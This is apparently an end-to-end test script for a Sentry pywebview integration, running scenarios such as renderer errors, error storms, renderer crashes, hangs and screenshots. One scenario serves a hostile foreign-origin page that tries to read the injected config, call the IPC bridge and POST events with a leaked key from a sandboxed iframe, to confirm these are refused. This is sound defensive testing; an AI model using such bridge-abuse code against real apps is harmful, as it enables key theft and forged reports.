"""One pywebview scenario per process (Qt can't start twice): ``python -m tests.e2e.pywebview_app SCENARIO``.

The DSN comes from ``SENTRY_DSN``; the GUI from ``PYWEBVIEW_GUI``. The script exits
0 when the scenario ran to its end; the test then judges what the ingest received.
"""

import faulthandler
import functools
import json
import os
import re
import resource
import signal
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import sentry_sdk
import webview
from sentry_sdk.integrations.excepthook import ExcepthookIntegration

import sentry_webview
from bench.common import GuiLag

LOAD_WINDOWS, LOAD_PER_WINDOW = 4, int(os.environ.get("LOAD_PER_WINDOW", "2500"))
STORM_DISTINCT, STORM_REPEATS = 30, int(os.environ.get("STORM_REPEATS", "500"))
PAGES = {
    "/head-error.html": """<!doctype html><html><head><title>head error</title>
<script>throw new TypeError('thrown while parsing head');</script></head><body>head</body></html>""",
    "/first.html": """<!doctype html><title>first</title><p>first page</p>""",
    "/second.html": """<!doctype html><title>second</title><p>second</p>
<script>setTimeout(function () { null.afterNavigation(); }, 0);</script>""",
    "/rejection.html": """<!doctype html><title>rejection</title>
<script>setTimeout(function () { Promise.reject(new Error('rejected in renderer')); }, 0);</script>""",
    "/window.html": """<!doctype html><title>window</title>
<script>setTimeout(function () { throw new Error('error from ' + location.search.slice(1)); }, 0);</script>""",
    "/crumbs.html": """<!doctype html><title>crumbs</title>
<script>window.addEventListener('load', function () {
  SentryWebview.setUser({id: 'page-user'});
  SentryWebview.addBreadcrumb({category: 'page', message: 'clicked checkout'});
  console.log('page console line');
});</script>""",
    "/api.html": """<!doctype html><title>api</title>
<script>window.addEventListener('pywebviewready', function () {
  window.pywebview.api.echo('ping').then(function (r) { document.title = 'echo:' + r; });
});</script>""",
    "/idle.html": """<!doctype html><title>idle</title><p>idle</p>""",
    "/busy.html": """<!doctype html><title>busy</title>
<script>(function tick() { SentryWebview.addBreadcrumb({message: 'tick'}); setTimeout(tick, 0); })();</script>""",
    "/load.html": """<!doctype html><title>load</title>
<script>window.addEventListener('pywebviewready', function () {
  var name = location.search.slice(1), total = %d, sent = 0;
  (function burst() {
    for (var end = Math.min(sent + 50, total); sent < end; sent++) {
      SentryWebview.captureException(new Error('load ' + name + ' ' + sent));
    }
    if (sent < total) setTimeout(burst, 0);
  })();
});</script>"""
    % LOAD_PER_WINDOW,
    # Distinct-then-repeat: 30 distinct errors once, then one error STORM_REPEATS times as fast as it can.
    "/storm.html": """<!doctype html><title>storm</title>
<script>window.addEventListener('pywebviewready', function () {
  var name = location.search.slice(1), repeats = %d, sent = 0;
  function capture(value) { SentryWebview.captureException(new Error(value)); }
  for (var k = 0; k < %d; k++) capture('storm ' + name + ' distinct ' + k);
  (function burst() {
    for (var end = Math.min(sent + 50, repeats); sent < end; sent++) capture('storm ' + name + ' repeat');
    if (sent < repeats) setTimeout(burst, 0);
  })();
});</script>"""
    % (STORM_REPEATS, STORM_DISTINCT),
}


REPO = Path(__file__).resolve().parents[2]
SHIPPED = {
    "/sentry-webview-preload.js": REPO / "js" / "preload.js",
    "/sentry-webview-renderer.js": REPO / "sentry_webview" / "static" / "renderer.js",
}


def _shipped_page():
    """What a bundled app without our static files serves: the JS it ships, and the host's config."""
    return """<!doctype html><html><head><title>shipped</title>
<script>window.__SENTRY_WEBVIEW__ = %s;</script>
<script src="/sentry-webview-preload.js"></script>
<script>SentryWebviewPreload.hookupIpc("sentry-ipc", window.__SENTRY_WEBVIEW__);</script>
<script src="/sentry-webview-renderer.js"></script>
<script>SentryWebview.init({ipcNamespace: "sentry-ipc"});
setTimeout(function () { throw new Error("from a page that ships the JS"); }, 0);</script>
</head><body>shipped</body></html>""" % json.dumps(sentry_webview.renderer_config())


class _Pages(BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        path = self.path.split("?")[0]
        if path in SHIPPED:
            body = SHIPPED[path].read_bytes()
        else:
            body = (_shipped_page() if path == "/shipped.html" else PAGES.get(path, "")).encode()
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


server = ThreadingHTTPServer(("127.0.0.1", 0), _Pages)
threading.Thread(target=server.serve_forever, daemon=True).start()
BASE = "http://127.0.0.1:%d" % server.server_address[1]


def intake():
    return sentry_sdk.get_client().get_integration(sentry_webview.WebviewIntegration).hub.intake


def wait_until(predicate, timeout=20.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    raise SystemExit("timed out waiting in scenario %s" % SCENARIO)


def wait_for_renderer_events(count):
    wait_until(lambda: intake().stats["events"] >= count)


def finish(*windows):
    sentry_webview.flush(5)
    for window in windows:
        window.destroy()


def _parents():
    parents = {}
    for proc in Path("/proc").iterdir():
        try:
            parents[int(proc.name)] = int((proc / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
    return parents


def renderer_pids():
    """Renderer processes anywhere below this one.

    WebKitGTK: ``WebKitWebProcess``. QtWebEngine: renderers are forked from the zygote
    without exec, so they are the zygote-command processes whose parent is a zygote.
    """
    parents = _parents()
    descendants, frontier = set(), {os.getpid()}
    while frontier:
        frontier = {pid for pid, parent in parents.items() if parent in frontier} - descendants
        descendants |= frontier

    def cmdline(pid):
        try:
            return Path("/proc/%d/cmdline" % pid).read_bytes()
        except OSError:
            return b""

    def zygote(pid):
        return b"--type=zygote" in cmdline(pid)

    return [
        pid
        for pid in descendants
        if b"--type=renderer" in cmdline(pid)
        or b"WebKitWebProcess" in cmdline(pid)
        or (zygote(pid) and zygote(parents[pid]))
    ]


class Api:
    def echo(self, value):
        return value.upper()


def one_page(title, path):
    """A scenario: open ``path``, wait for its renderer error, close."""

    def scenario():
        window = webview.create_window(title, BASE + path)
        return window, lambda: (wait_for_renderer_events(1), finish(window))

    return scenario


def scenario_file_page():
    """A page the app opens from disk (``file://``); it throws once loaded."""
    import tempfile

    page = Path(tempfile.mkdtemp()) / "local page.html"
    page.write_text(PAGES["/window.html"].replace("<title>window", "<title>local page"))
    window = webview.create_window("file page", page.as_uri() + "?from-disk")
    return window, lambda: (wait_for_renderer_events(1), finish(window))


def scenario_html_page():
    """A page given as ``html=``; it throws once loaded."""
    window = webview.create_window(
        "html page", html=PAGES["/window.html"].replace("location.search.slice(1)", "'html'")
    )
    return window, lambda: (wait_for_renderer_events(1), finish(window))


scenario_head_error = one_page("head error", "/head-error.html")
scenario_rejection = one_page("rejection", "/rejection.html")
scenario_static_hidden = one_page("shipped", "/shipped.html")


def scenario_navigation():
    window = webview.create_window("navigation", BASE + "/first.html")

    def run():
        window.events.loaded.wait(10)
        window.load_url(BASE + "/second.html")
        wait_for_renderer_events(1)
        finish(window)

    return window, run


def scenario_two_windows():
    first = webview.create_window("first window", BASE + "/window.html?first")
    second = webview.create_window("second window", BASE + "/window.html?second")
    return first, lambda: (wait_for_renderer_events(2), finish(first, second))


def scenario_host_error_with_renderer_crumbs():
    window = webview.create_window("crumbs", BASE + "/crumbs.html")

    def run():
        host_scope = sentry_sdk.get_client().get_integration(sentry_webview.WebviewIntegration).hub.scope_sync.scope
        wait_until(lambda: "clicked checkout" in [c.get("message") for c in list(host_scope._breadcrumbs)])
        sentry_webview.flush(5)
        try:
            raise RuntimeError("host failed after the page logged")
        except RuntimeError:
            sentry_sdk.capture_exception()
        finish(window)

    return window, run


def scenario_app_js_api():
    window = webview.create_window("api", BASE + "/api.html", js_api=Api())

    def run():
        wait_until(lambda: window.evaluate_js("document.title") == "echo:PING")
        window.evaluate_js("setTimeout(function () { throw new Error('after js_api'); }, 0)")
        wait_for_renderer_events(1)
        finish(window)

    return window, run


# Grows the page's memory, ~8 MB at a time up to ~1.6 GB, until its renderer is ended.
HOG = """var hog = []; setInterval(function () {
  if (hog.length < 1600) for (var i = 0; i < 8; i++) hog.push(new Array(1 << 17).fill(0).map(Math.random));
}, 20);"""


def _gtk_memory_limit(megabytes):
    """WebKitGTK's own limit on its web processes (2.34+), which ends one that stays above it. pywebview
    makes its web context itself (ephemeral in private mode, its default) and the limit is a
    construct-only property: hand pywebview a context built with it, as an app wanting one would."""
    import gi

    gi.require_version("WebKit2", "4.1")
    from gi.repository import WebKit2

    settings = WebKit2.MemoryPressureSettings.new()
    settings.set_memory_limit(megabytes)
    settings.set_poll_interval(0.2)
    settings.set_kill_threshold(1.0)
    WebKit2.WebContext.get_default = staticmethod(lambda: WebKit2.WebContext(memory_pressure_settings=settings))
    WebKit2.WebContext.new_ephemeral = staticmethod(
        lambda: WebKit2.WebContext(
            memory_pressure_settings=settings, website_data_manager=WebKit2.WebsiteDataManager.new_ephemeral()
        )
    )


def scenario_renderer_ends():
    """The page's renderer ends as ``RENDERER_END`` says, then the host captures a message (whose
    breadcrumbs show the ``renderer-gone`` one, also when that was no event of its own):

    a signal name (sent to the renderer processes), ``exit:N`` (the renderer calls ``_exit(N)``,
    made to by gdb), ``api`` (WebKitGTK's ``terminate_web_process``), ``oom`` (the page grows
    past a real limit: WebKitGTK's memory limit, Chromium's V8 heap limit).
    """
    how = os.environ["RENDERER_END"]
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))  # the renderers inherit it: no core files in the checkout
    if how == "oom" and os.environ.get("PYWEBVIEW_GUI") == "gtk":
        _gtk_memory_limit(200)
    elif how == "oom":
        os.environ["QTWEBENGINE_CHROMIUM_FLAGS"] = "--js-flags=--max-old-space-size=64"
    window = webview.create_window("victim", BASE + "/idle.html")

    def run():
        window.events.loaded.wait(10)
        wait_until(lambda: intake().stats["renderers_started"] >= 1)
        victims = renderer_pids()
        print("ENDING %s BY %s" % (victims, how), flush=True)
        if how == "api":
            from gi.repository import GLib
            from webview.platforms.gtk import BrowserView

            GLib.idle_add(lambda: BrowserView.instances[window.uid].webview.terminate_web_process())
        elif how == "oom":
            window.run_js(HOG)
        elif how.startswith("exit:"):
            call = "call (void)_exit(%d)" % int(how[len("exit:") :])
            for pid in victims:  # gdb itself may fail once the process is gone: what counts is the engine's report
                subprocess.run(["gdb", "-p", str(pid), "-batch", "-ex", call], capture_output=True)
        else:
            for pid in victims:
                os.kill(pid, getattr(signal, how))
        wait_until(lambda: intake().stats["renderers_gone"] >= 1)
        sentry_sdk.capture_message("after the renderer ended")
        finish(window)

    return window, run


def rss_kib():
    return int(re.search(r"VmRSS:\s+(\d+)", Path("/proc/self/status").read_text()).group(1))


def scenario_load():
    """Renderer errors from 4 windows while the GUI thread is pinged (through an idle 5th window,
    so a busy page doesn't count); prints what it measured."""
    windows = [webview.create_window("load %d" % i, BASE + "/load.html?w%d" % i) for i in range(LOAD_WINDOWS)]
    windows.append(webview.create_window("ping", BASE + "/idle.html"))
    lag = GuiLag(windows[-1], os.environ.get("PYWEBVIEW_GUI") or "qt")

    def run():
        host = sentry_sdk.get_client().get_integration(sentry_webview.WebviewIntegration).hub
        wait_until(lambda: host.intake.stats["renderers_started"] > LOAD_WINDOWS)
        rss_before, pings, total = rss_kib(), [], LOAD_WINDOWS * LOAD_PER_WINDOW

        def handled():
            counters = ("events", "dropped_in_renderer", "queue_full", "malformed", "failed")
            return sum(host.intake.stats[counter] for counter in counters)

        deadline = time.monotonic() + 120
        lag.recording = True
        while handled() < total and time.monotonic() < deadline:
            started = time.perf_counter()
            windows[-1].evaluate_js("1")
            pings.append((time.perf_counter() - started) * 1000)
            time.sleep(0.05)
        sentry_webview.flush(30)
        client = sentry_sdk.get_client()
        client.transport._flush_client_reports(force=True)
        client.flush(10)
        lag.recording = False
        pings.sort()
        print(
            "LOAD "
            + json.dumps(
                {
                    "handled": handled(),
                    "stats": dict(host.intake.stats),
                    "rss_growth_kib": rss_kib() - rss_before,
                    "ping_ms": {"p50": pings[len(pings) // 2], "max": pings[-1], "count": len(pings)},
                    "gui_lag_ms": lag.summary(),
                }
            ),
            flush=True,
        )
        finish(*windows)

    return windows[0], run


def scenario_storm():
    """An error storm from 4 windows while the GUI thread is pinged every ~10 ms through an idle 5th
    window and a 10 ms timer on it measures its stalls; prints what it measured once every capture was
    delivered or counted as dropped."""
    windows = [webview.create_window("storm %d" % i, BASE + "/storm.html?w%d" % i) for i in range(LOAD_WINDOWS)]
    windows.append(webview.create_window("ping", BASE + "/idle.html"))
    lag = GuiLag(windows[-1], os.environ.get("PYWEBVIEW_GUI") or "qt")

    def run():
        host = sentry_sdk.get_client().get_integration(sentry_webview.WebviewIntegration).hub
        wait_until(lambda: host.intake.stats["renderers_started"] > LOAD_WINDOWS, timeout=60)
        rss_before, pings, total = rss_kib(), [], LOAD_WINDOWS * (STORM_DISTINCT + STORM_REPEATS)

        def handled():
            return host.intake.stats["events"] + host.intake.stats.get("dropped_in_renderer", 0)

        deadline = time.monotonic() + 90
        lag.recording = True
        while handled() < total and time.monotonic() < deadline:
            started = time.perf_counter()
            windows[-1].evaluate_js("1")
            pings.append((time.perf_counter() - started) * 1000)
            time.sleep(0.01)
        sentry_webview.flush(30)
        client = sentry_sdk.get_client()
        client.transport._flush_client_reports(force=True)
        client.flush(10)
        pings.sort()
        result = {"handled": handled(), "total": total, "stats": dict(host.intake.stats)}
        lag.recording = False
        result.update(rss_growth_kib=rss_kib() - rss_before, ping_ms={"p50": pings[len(pings) // 2], "max": pings[-1]})
        result.update(gui_lag_ms=lag.summary())
        print("STORM " + json.dumps(result), flush=True)
        finish(*windows)

    return windows[0], run


def scenario_storm_close():
    """Windows close one by one mid-storm (bridge calls and replies in flight), then the app quits."""
    windows = [webview.create_window("storm %d" % i, BASE + "/storm.html?w%d" % i) for i in range(LOAD_WINDOWS)]

    def run():
        wait_until(lambda: intake().stats["events"] >= 20, timeout=60)
        for window in windows:
            window.destroy()
            time.sleep(0.05)

    return windows[0], run


REPORTS = []
ATTACK = """<!doctype html><title>foreign</title><script>
function report(what, value) {
  return fetch(location.origin + '/report?' + what + '=' + encodeURIComponent(value));
}
function bridge(text) {
  var api = window.pywebview && window.pywebview.api, name = 'sentry_webview_sentry_ipc_envelope';
  if (!(api && api[name])) return Promise.resolve('none');
  return api[name](text).then(function (r) { return 'answered ' + r; }, String);
}
var config = window.__SENTRY_WEBVIEW__;
var envelope = function (message) {
  return '{}\\n{"type":"event"}\\n' + JSON.stringify({message: message, platform: 'javascript'});
};
report(location.protocol + 'config', config ? JSON.stringify(config) : 'none');
if (location.protocol === 'blob:') {
  bridge(envelope('foreign blob bridge')).then(function (r) { report('blob-bridge', r); report('done', 1); });
} else {
  window.addEventListener('pywebviewready', function () {
    bridge(envelope('foreign bridge')).then(function (r) {
      report('bridge', r);
      // A sandboxed frame (Origin: null) with a token that leaked some other way.
      var frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.srcdoc = '<script>fetch(' + JSON.stringify(LEAKED.protocolUrl + '/envelope/sentry_key') +
        ', {method: "POST", headers: LEAKED.headers, body: ' + JSON.stringify(envelope('foreign sandboxed frame')) +
        '}).then(function (r) { parent.postMessage("frame " + r.status, "*"); },' +
        ' function (e) { parent.postMessage("frame " + e, "*"); });<' + '/script>';
      frame.srcdoc = frame.srcdoc.replace('<script>', '<script>var LEAKED = ' + JSON.stringify(LEAKED) + ';');
      window.addEventListener('message', function (m) {
        report('frame', m.data).then(function () {
          var blob = new Blob([document.documentElement.outerHTML], {type: 'text/html'});
          location.href = URL.createObjectURL(blob);
        });
      });
      document.body.appendChild(frame);
    });
  });
}
</script>"""


class _Foreign(_Pages):
    def do_GET(self):  # noqa: N802
        if self.path.startswith("/report?"):
            REPORTS.append(self.path[len("/report?") :])
            body = b"ok"
        else:
            leaked = json.dumps(sentry_webview.renderer_config())
            body = ATTACK.replace("var config", "var LEAKED = %s;\nvar config" % leaked, 1).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def scenario_foreign_origin():
    """The app's window navigates to a page of another origin (a name mapped to 127.0.0.1 on Qt, 127.0.0.2
    on GTK): it sees no config, its bridge calls, sandboxed frame and blob: document are all refused."""
    gtk = os.environ.get("PYWEBVIEW_GUI") == "gtk"
    foreign = ThreadingHTTPServer(("127.0.0.2" if gtk else "127.0.0.1", 0), _Foreign)
    threading.Thread(target=foreign.serve_forever, daemon=True).start()
    window = webview.create_window("app", BASE + "/window.html?app")

    def run():
        wait_for_renderer_events(1)
        host = "127.0.0.2" if gtk else "foreign.test"
        window.load_url("http://%s:%d/attack.html" % (host, foreign.server_address[1]))
        wait_until(lambda: any(r.startswith("done") for r in REPORTS), timeout=30)
        print("FOREIGN-REPORTS " + json.dumps(REPORTS), flush=True)
        # pywebview's own (non-daemon) thread still builds window.pywebview for the blob: document; a window
        # destroyed before it has can hang the exit on GTK (its evaluate_js waits on a main loop that is gone).
        # (run_js: evaluate_js wraps the script in pywebview.stringify, a ReferenceError until then.)
        wait_until(
            lambda: (
                str(window.run_js("Object.keys((window.pywebview || {}).api || {}).length > 0")).lower() == "true"
                and not [t for t in threading.enumerate() if t.name.endswith("(generate_js_object)")]
            )
        )
        finish(window)

    return window, run


def block_gui_thread():
    print("BLOCKED_AT %f" % time.time(), flush=True)
    time.sleep(3)
    print("UNBLOCKED_AT %f" % time.time(), flush=True)


def poll_on_gui_thread(window, poll, interval_ms=50):
    """Call ``poll`` every ``interval_ms`` on the GUI thread, from the window's ``before_show`` (which runs there)."""

    def install(window):
        if os.environ.get("PYWEBVIEW_GUI") == "gtk":
            from gi.repository import GLib

            GLib.timeout_add(interval_ms, lambda: poll() or True)
        else:
            from qtpy.QtCore import Qt, QTimer

            timer = QTimer(window.native)
            timer.setTimerType(Qt.TimerType.PreciseTimer)
            timer.timeout.connect(poll)
            timer.start(interval_ms)

    window.events.before_show += install


def scenario_hang(hidden=False):
    """The GUI thread blocks for 3 s once the page has loaded: one ANR event with its stack (none if hidden)."""
    window = webview.create_window("hang", BASE + "/idle.html")
    block = threading.Event()
    poll_on_gui_thread(window, lambda: block.is_set() and (block.clear(), block_gui_thread()))

    def run():
        window.events.loaded.wait(10)
        if hidden:
            window.hide()
            time.sleep(1)  # heartbeats that say so
        block.set()
        time.sleep(4.5)
        finish(window)

    return window, run


scenario_hang_hidden = functools.partial(scenario_hang, hidden=True)


def scenario_renderer_block():
    """A visible page idles past the 1 s threshold, then its event loop blocks for 3 s: one renderer ANR event."""
    window = webview.create_window("renderer block", BASE + "/idle.html")

    def run():
        wait_until(lambda: intake().stats["statuses"] >= 4)
        time.sleep(2)  # idle, heartbeats arriving: nothing to report
        window.evaluate_js("setTimeout(function () { var end = Date.now() + 3000; while (Date.now() < end) {} }, 0)")
        time.sleep(5)  # the block, then idle again: reported once
        finish(window)

    return window, run


def scenario_suspended():
    """The whole host process stands still for 3 s (as in a system sleep): not a hang."""
    window = webview.create_window("suspended", BASE + "/idle.html")

    def run():
        window.events.loaded.wait(10)
        time.sleep(1)
        subprocess.Popen(["sh", "-c", "kill -STOP %d; sleep 3; kill -CONT %d" % (os.getpid(), os.getpid())])
        time.sleep(5)
        finish(window)

    return window, run


def scenario_quit():
    """The last window closes while its page keeps the bridge busy (replies in flight)."""
    window = webview.create_window("quit", BASE + "/busy.html")

    def run():
        window.events.loaded.wait(10)
        print("DESTROY_AT %f" % time.time(), flush=True)
        window.destroy()

    return window, run


PAGES["/screenshot.html"] = """<!doctype html><title>screenshot</title>
<style>html, body { margin: 0; height: 100%; overflow: hidden; background: #3366cc; color: #fff; }</style>
<h1 style="padding: 100px; margin: 0">screenshot page</h1>
<script>function fail() { throw new Error('screenshot page failed'); }
requestAnimationFrame(function () { requestAnimationFrame(function () { window.painted = true; }); });</script>"""


def scenario_screenshot():
    """A 640×480 window; its page throws, then the host captures an error on its own thread, a message
    on the GUI thread, and a transaction. Prints the page's viewport in device pixels."""
    window = webview.create_window("screenshot", BASE + "/screenshot.html", width=640, height=480)
    asked, captured = threading.Event(), threading.Event()

    def capture_when_asked():
        if asked.is_set() and not captured.is_set():
            sentry_sdk.capture_message("captured on the GUI thread")
            captured.set()

    poll_on_gui_thread(window, capture_when_asked)

    def run():
        wait_until(lambda: window.events.loaded.is_set() and window.evaluate_js("window.painted === true"))
        width, height, ratio = window.evaluate_js("[innerWidth, innerHeight, devicePixelRatio]")
        print("VIEWPORT %d %d" % (round(width * ratio), round(height * ratio)), flush=True)
        window.evaluate_js("setTimeout(fail, 0)")
        wait_for_renderer_events(1)
        try:
            raise RuntimeError("host failed under a window")
        except RuntimeError:
            sentry_sdk.capture_exception()
        asked.set()
        wait_until(captured.is_set)
        with sentry_sdk.start_transaction(name="screenshot transaction"):
            pass
        finish(window)

    return window, run


# -- the app undisturbed (issue 17): each scenario ends by closing its windows, no flush of its own.
PAGES["/fifty.html"] = """<!doctype html><title>fifty</title>
<script>window.addEventListener('pywebviewready', function () {
  for (var i = 0; i < 50; i++) SentryWebview.captureException(new Error('before quit ' + i));
});</script>"""


BUSY_30_MS = "(function () { var end = Date.now() + 30; while (Date.now() < end) {} return 1; })()"


def scenario_close_in_flight():
    """Three windows close while the app's own evaluate_js calls are in flight on each."""
    windows = [webview.create_window("in flight %d" % i, BASE + "/idle.html") for i in range(3)]

    def hammer(window, stop):
        while not stop.is_set():
            try:
                window.evaluate_js(BUSY_30_MS)
            except Exception:
                return

    def run():
        for window in windows:
            window.events.loaded.wait(10)
        wait_until(lambda: intake().stats["renderers_started"] >= len(windows))
        stop = threading.Event()
        for window in windows:
            for _ in range(3):
                threading.Thread(target=hammer, args=(window, stop), daemon=True).start()
        time.sleep(0.5)
        print("DESTROY_AT %f" % time.time(), flush=True)
        for window in windows:
            window.destroy()
        stop.set()

    return windows[0], run


def scenario_load_html_close():
    """The app replaces its page with load_html, and closes the window once the new page is up."""
    window = webview.create_window("html", BASE + "/idle.html")

    def run():
        window.events.loaded.wait(10)
        window.load_html("<!doctype html><title>html</title><p>loaded as html</p>")
        wait_until(lambda: intake().stats["renderers_started"] >= 2)
        print("DESTROY_AT %f" % time.time(), flush=True)
        window.destroy()

    return window, run


def scenario_navigate_in_loaded():
    """pywebview's events.py example: the app's ``loaded`` handler navigates once."""
    window = webview.create_window("events", BASE + "/first.html")

    def on_loaded(window):
        window.events.loaded -= on_loaded
        window.load_url(BASE + "/idle.html")

    window.events.loaded += on_loaded

    def run():
        wait_until(lambda: intake().stats["renderers_started"] >= 2)
        time.sleep(1.0)  # the second page's own bridge calls, and any late reply
        print("DESTROY_AT %f" % time.time(), flush=True)
        window.destroy()

    return window, run


def scenario_remote_first_page():
    """A window whose first page is of an origin other than loopback's (127.0.0.2): its error arrives."""
    other = ThreadingHTTPServer(("127.0.0.2", 0), _Pages)
    threading.Thread(target=other.serve_forever, daemon=True).start()
    window = webview.create_window("remote", "http://127.0.0.2:%d/window.html?remote" % other.server_address[1])

    def run():
        wait_for_renderer_events(1)
        print("REFUSED %d" % intake().stats["refused_origin"], flush=True)
        window.destroy()

    return window, run


def scenario_quit_flush():
    """The last window closes as soon as the intake has accepted 50 renderer errors (most still queued)."""
    window = webview.create_window("fifty", BASE + "/fifty.html")

    def run():
        wait_until(lambda: intake().stats["events"] + intake().queued >= 50, timeout=20.0)
        print("MERGED_AT_CLOSE %d" % intake().stats["events"], flush=True)
        print("DESTROY_AT %f" % time.time(), flush=True)
        window.destroy()

    return window, run


SCENARIO = sys.argv[1]
SCENARIO_TIMEOUT = 150 if SCENARIO in ("load", "storm") else 60
sentry_webview.init(
    dsn=os.environ["SENTRY_DSN"],
    release="e2e@1.0",
    environment="e2e",
    ipc_mode=os.environ.get("IPC_MODE", "both"),
    offline=(
        {"path": os.environ["OFFLINE_QUEUE"]}
        if os.environ.get("OFFLINE_QUEUE")
        else os.environ.get("OFFLINE", "1") == "1"
    ),
    anr_threshold=1.0 if SCENARIO in ("hang", "hang-hidden", "suspended") else None,
    renderer_anr_threshold=1.0 if SCENARIO in ("renderer-block", "hang") else None,
    attach_screenshot=SCENARIO == "screenshot" or os.environ.get("SCREENSHOTS") == "1",
    traces_sample_rate=1.0 if SCENARIO == "screenshot" else None,
    # An app whose before_send takes its time (scrubbing, say): renderer events wait in the intake.
    before_send=(lambda event, hint: time.sleep(0.03) or event) if SCENARIO == "quit-flush" else None,
    disabled_integrations=[ExcepthookIntegration] if os.environ.get("NO_EXCEPTHOOK") == "1" else None,
)
sentry_sdk.set_tag("host.tag", "e2e")
main_window, run = globals()["scenario_" + SCENARIO.replace("-", "_")]()


def _time_out():
    time.sleep(SCENARIO_TIMEOUT)
    print("SCENARIO TIMEOUT", flush=True)
    faulthandler.dump_traceback(all_threads=True)
    os._exit(3)


threading.Thread(target=_time_out, daemon=True).start()
webview.start(run, gui=os.environ.get("PYWEBVIEW_GUI"))
print("EXITED_AT %f" % time.time(), flush=True)
